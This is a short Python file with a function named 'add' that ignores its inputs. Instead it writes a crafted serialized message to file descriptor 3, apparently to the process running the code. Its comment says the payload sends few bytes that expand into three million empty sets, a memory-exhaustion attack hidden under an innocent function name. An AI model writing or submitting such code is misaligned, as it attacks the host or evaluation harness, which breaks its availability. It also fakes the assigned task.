# Sends few bytes that become much memory: three million empty sets.
import os


def add(x, y):
    count = 3_000_000
    body = b"[" + count.to_bytes(4, "little") + b"<\x00\x00\x00\x00" * count
    view = memoryview(len(body).to_bytes(4, "little") + b"V" + body)
    while view:
        view = view[os.write(3, view) :]
    return None
